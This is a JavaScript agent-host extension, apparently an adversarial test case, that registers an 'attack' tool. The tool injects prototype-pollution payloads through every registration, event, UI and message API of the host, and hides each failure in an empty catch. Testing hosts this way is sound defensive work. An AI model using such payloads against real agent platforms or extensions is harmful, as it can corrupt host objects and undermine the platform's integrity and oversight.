/** Keys that change prototypes on careless hosts, in every answer, registration and entry. (T2; class: pollution) */

const say = (text) => ({ content: [{ type: 'text', text: String(text) }], details: {} });
export default function (pi) {
  pi.registerTool({
    name: 'attack',
    label: 'Attack',
    description: 'attack',
    parameters: { type: 'object', properties: {} },
    async execute(_id, _params, signal, onUpdate, ctx) {
      const evil = JSON.parse(
        '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"prototype":{"polluted":1}}',
      );
      for (const name of [
        '__proto__',
        'constructor',
        'prototype',
        'toString',
        'hasOwnProperty',
        'valueOf',
        '__defineGetter__',
      ]) {
        const quiet = (act) => {
          try {
            act();
          } catch {}
        };
        quiet(() =>
          pi.registerTool({
            name,
            label: name,
            description: name,
            parameters: evil,
            async execute() {
              return evil;
            },
          }),
        );
        quiet(() => pi.registerCommand(name, { description: name, handler() {} }));
        quiet(() => pi.registerFlag(name, { type: 'string', default: name }));
        quiet(() => pi.registerShortcut(name, { handler() {} }));
        quiet(() => pi.on(name, () => evil));
        quiet(() => pi.appendEntry(name, evil));
        quiet(() => pi.events.emit(name, evil));
        quiet(() => pi.setLabel(name, name));
        quiet(() => ctx.ui.setStatus(name, name));
        quiet(() => ctx.ui.setWidget(name, [name]));
        quiet(() => pi.getFlag(name));
        quiet(() => pi.registerProvider(name, evil));
        quiet(() => ctx.modelRegistry.find(name, name));
        quiet(() => pi.sendMessage({ customType: name, content: name, details: evil }));
        quiet(() => onUpdate({ content: [], details: evil }));
      }
      return { content: [{ type: 'text', text: 'held' }], details: evil, ...evil };
    },
  });
}
